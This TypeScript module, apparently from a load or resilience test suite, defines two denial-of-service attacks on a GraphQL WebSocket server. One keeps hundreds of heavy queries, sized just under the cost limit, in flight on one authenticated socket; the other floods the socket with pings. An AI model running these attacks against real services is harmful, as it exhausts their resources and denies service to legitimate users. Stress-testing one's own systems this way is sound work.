/** One WebSocket with a token: the most allowed heavy queries in flight, then a flood of pings. */
import { setTimeout as sleep } from 'node:timers/promises'
import type { WebSocket } from 'ws'
import { ATTACKER_ADDRESS, type Attack } from '../attack.ts'
import { keepSockets } from '../open-sockets.ts'

const QUERIES = 900
const PINGS_AT_ONCE = 1_000
const UNSENT_BYTES_MAX = 1_048_576
/** About 9,000 points: below the limit of a single operation. */
const HEAVY = `query($ids: [ID!]!) { ${Array.from({ length: 40 }, (_, at) => `a${at}: subjects(business: "video", ids: $ids) { likeCount dislikeCount }`).join(' ')} }`
const VARIABLES = { ids: Array.from({ length: 200 }, (_, at) => `h${at}`) }

function query(socket: WebSocket, id: number): void {
  if (socket.readyState === socket.OPEN)
    socket.send(JSON.stringify({ id: String(id), type: 'subscribe', payload: { query: HEAVY, variables: VARIABLES } }))
}

async function floodPings(socket: WebSocket, signal: AbortSignal): Promise<void> {
  const ping = JSON.stringify({ type: 'ping' })
  while (!signal.aborted && socket.readyState === socket.OPEN) {
    if (socket.bufferedAmount < UNSENT_BYTES_MAX)
      for (let at = 0; at < PINGS_AT_ONCE; at += 1) {
        socket.send(ping)
        socket.ping()
      }
    await sleep(5)
  }
}

export const attacks: readonly Attack[] = [
  {
    title: 'heavy queries on one socket',
    role: 'start',
    run(target, signal) {
      let next = 0
      return keepSockets(target, signal, {
        ...{ count: 1, openPerSecond: 5, addressOf: () => ATTACKER_ADDRESS, params: { authorization: `Bearer ${target.token}` } },
        begin(socket) {
          for (let at = 0; at < QUERIES; at += 1) query(socket, next++)
        },
        onMessage(type, socket) {
          // Refused operations are repeated more slowly than answered ones, because a refusal has no `complete`.
          if (type === 'complete') query(socket, next++)
          if (type === 'error') setTimeout(() => query(socket, next++), 100).unref()
        },
      })
    },
  },
  {
    title: 'pings on one socket',
    role: 'start',
    run: (target, signal) =>
      keepSockets(target, signal, {
        ...{ count: 1, openPerSecond: 5, addressOf: () => ATTACKER_ADDRESS },
        begin: (socket) => void floodPings(socket, signal),
      }),
  },
]
